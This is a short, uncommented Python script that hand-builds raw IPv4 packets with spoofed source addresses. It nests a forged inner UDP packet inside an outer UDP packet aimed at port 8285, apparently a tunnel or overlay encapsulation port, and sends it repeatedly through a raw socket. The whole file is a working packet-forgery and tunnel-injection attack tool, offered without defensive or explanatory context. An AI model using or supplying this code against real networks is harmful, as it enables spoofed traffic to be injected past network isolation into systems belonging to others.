import socket,struct,sys
def ip(src,dst,proto,pl,ttl=64):
    h=struct.pack('!BBHHHBBH4s4s',0x45,0,20+len(pl),1,0,ttl,proto,0,socket.inet_aton(src),socket.inet_aton(dst))
    s=sum(struct.unpack('!10H',h)); s=(s&0xffff)+(s>>16); s=(s&0xffff)+(s>>16)
    return h[:10]+struct.pack('!H',~s&0xffff)+h[12:]+pl
osrc,odst,sport,isrc,idst=sys.argv[1:6]
udp=struct.pack('!HHHH',7,7777,8+5,0)+b'forge'
inner=ip(isrc,idst,17,udp)
outer=struct.pack('!HHHH',int(sport),8285,8+len(inner),0)+inner
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)
for _ in range(20): s.sendto(ip(osrc,odst,17,outer),(odst,0))
